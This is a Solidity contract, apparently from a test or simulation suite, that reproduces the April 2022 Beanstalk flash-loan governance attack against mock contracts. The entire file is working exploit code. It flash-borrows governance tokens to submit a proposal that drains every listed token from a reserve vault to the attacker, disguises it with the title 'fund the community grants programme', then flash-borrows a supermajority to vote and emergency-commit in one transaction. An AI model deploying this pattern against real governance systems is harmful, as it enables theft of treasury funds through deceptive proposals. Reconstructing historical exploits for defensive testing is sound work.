// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {FlashLender} from "../venue/FlashLender.sol";
import {GovToken} from "../venue/Tokens.sol";
import {LegacyGovernance} from "../venue/Governance.sol";
import {ReserveVault} from "../venue/ReserveVault.sol";
import {AttestedCaller} from "../guardian/AttestedEntry.sol";

/// @title GovernanceAttacker
/// @notice Scenario 5 (Beanstalk, April 2022): with flash-borrowed VGOV, propose that the reserve vault pay
/// everything to the attacker; once the emergency delay has passed, flash-borrow a two-thirds supermajority, vote, emergency-commit and
/// repay in one transaction. The contract must hold a little VGOV for the flash-loan fees.
contract GovernanceAttacker is IERC3156FlashBorrower, AttestedCaller {
    enum Action {
        Propose,
        Execute
    }

    FlashLender public immutable lender;
    GovToken public immutable gov;
    LegacyGovernance public immutable governance;
    ReserveVault public immutable reserve;
    address public immutable owner;
    uint256 public proposalId;

    error NotOwner();
    error BadCaller();

    constructor(FlashLender lender_, GovToken gov_, LegacyGovernance governance_, ReserveVault reserve_) {
        lender = lender_;
        gov = gov_;
        governance = governance_;
        reserve = reserve_;
        owner = msg.sender;
        gov_.delegate(address(this));
    }

    /// @notice Proposes that the reserve vault send its whole balance of each of `tokens` to the owner.
    function propose(address[] calldata tokens) external returns (uint256) {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoan(this, address(gov), governance.PROPOSAL_THRESHOLD(), abi.encode(Action.Propose, tokens));
        return proposalId;
    }

    function execute(uint256 votes) external {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoan(this, address(gov), votes, abi.encode(Action.Execute, new address[](0)));
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        override
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert BadCaller();
        (Action action, address[] memory tokens) = abi.decode(data, (Action, address[]));
        if (action == Action.Propose) {
            address[] memory targets = new address[](tokens.length);
            bytes[] memory calls = new bytes[](tokens.length);
            for (uint256 i = 0; i < tokens.length; i++) {
                targets[i] = address(reserve);
                calls[i] = abi.encodeCall(
                    ReserveVault.spend, (tokens[i], owner, IERC20(tokens[i]).balanceOf(address(reserve)))
                );
            }
            proposalId = governance.propose(targets, calls, "BIP-18: fund the community grants programme");
        } else {
            governance.vote(proposalId);
            governance.emergencyCommit(proposalId);
        }
        gov.approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
